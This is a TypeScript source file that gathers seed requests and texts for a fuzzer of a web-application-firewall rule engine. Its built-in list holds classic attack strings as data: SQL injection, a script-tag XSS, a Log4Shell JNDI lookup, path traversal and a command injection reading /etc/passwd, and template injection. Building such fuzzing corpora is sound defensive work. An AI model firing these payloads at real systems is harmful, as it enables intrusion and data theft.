/** What the fuzzer begins with: requests and texts of the corpora, and a handful of its own where there are none. It only reads. */
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import type { ByteString } from "../../src/seclang/byte-string.ts";
import type { RequestHead } from "../../src/seclang/collections/message.ts";
import { wireBytes } from "../../src/seclang/ftw/ftw-request.ts";
import { readFtw } from "../../src/seclang/ftw/read-ftw.ts";
import { readWire } from "../../src/seclang/ftw/read-wire.ts";

export interface Message {
  readonly head: RequestHead;
  readonly body: ByteString;
}

export interface Material {
  readonly messages: readonly Message[];
  /** Attacks, prompts, prose: what is put into fields. */
  readonly texts: readonly ByteString[];
}

const bytesOf = (text: string): ByteString => Buffer.from(text, "utf8").toString("latin1");

const POST: RequestHead = {
  method: "POST",
  target: "/v1/predict?limit=5",
  protocol: "HTTP/1.1",
  headers: [
    ["Host", "models.example"],
    ["User-Agent", "client/1.0"],
    ["Accept", "*/*"],
    ["Content-Type", "application/json"],
  ],
};

/** Needs no corpus, so that the fuzzer runs anywhere. */
const OWN_BODIES: readonly (readonly [type: string, body: string])[] = [
  [
    "application/json",
    '{"model":"m","messages":[{"role":"user","content":"How are you?"}],"n":1.5e3}',
  ],
  [
    "application/json",
    '{"tool":{"arguments":"{\\"q\\":\\"1 or 1=1\\"}"},"list":[[],{},null,true]}',
  ],
  ["application/x-www-form-urlencoded", "name=A+B&note=%3Cb%3E&empty=&&x"],
  ["text/xml", '<?xml version="1.0"?><a b="c"><d>text &amp; more</d><![CDATA[x]]></a>'],
  [
    "multipart/form-data; boundary=xyz",
    '--xyz\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--xyz--\r\n',
  ],
  ["text/plain", "plain text"],
];

const OWN_TEXTS = [
  "' or 1=1 -- ",
  "1 UNION SELECT password FROM users",
  "<script>alert(1)</script>",
  "${jndi:ldap://a.example/x}",
  "../../../../etc/passwd",
  "; cat /etc/passwd",
  "{{7*7}}",
  "An ordinary sentence, with \u00e9 and \u{1f600}.",
];

/** Messages of this corpus that are longer are cut: the fuzzer makes large ones itself. */
const LONGEST_BODY_BYTES = 16_384;

export function loadMaterial(corpora: string): Material {
  const messages = OWN_BODIES.map(([type, body]): Message => withBody(type, bytesOf(body)));
  const texts = OWN_TEXTS.map(bytesOf);
  for (const suite of ["crs-ftw", "crs-ftw-v3.3"])
    messages.push(...ftwMessages(join(corpora, suite)));
  for (const { raw } of linesOf<{ raw: string }>(join(corpora, "raw-http/cases.jsonl")))
    messages.push(fromWire(Buffer.from(raw, "base64").toString("latin1")));
  for (const { b64 } of linesOf<{ b64: string }>(join(corpora, "json-parsing/cases.jsonl")))
    messages.push(withBody("application/json", Buffer.from(b64, "base64").toString("latin1")));
  for (const { body } of linesOf<{ body: unknown }>(join(corpora, "benign/bodies.jsonl")))
    messages.push(withBody("application/json", bytesOf(JSON.stringify(body))));
  for (const { payload } of linesOf<{ payload: string }>(join(corpora, "attacks/payloads.jsonl")))
    texts.push(bytesOf(payload));
  for (const folder of ["benign", "prompt-injection"])
    for (const { text } of linesOf<{ text: string }>(join(corpora, folder, "prompts.jsonl")))
      texts.push(bytesOf(text));
  return { messages, texts };
}

function withBody(type: string, body: ByteString): Message {
  const headers = POST.headers.map(([name, value]): [string, string] => [
    name,
    name === "Content-Type" ? type : value,
  ]);
  return { head: { ...POST, headers }, body: body.slice(0, LONGEST_BODY_BYTES) };
}

function fromWire(wire: ByteString): Message {
  const { head, body } = readWire(wire);
  return { head, body: body.slice(0, LONGEST_BODY_BYTES) };
}

function ftwMessages(folder: string): Message[] {
  if (!existsSync(folder)) return [];
  return readFtw(folder).tests.flatMap(({ stages }) =>
    stages.map(({ input }) => fromWire(wireBytes(input))),
  );
}

function linesOf<T>(path: string): T[] {
  if (!existsSync(path)) return [];
  const lines = readFileSync(path, "utf8").split("\n");
  return lines.filter((line) => line !== "").map((line) => JSON.parse(line) as T);
}
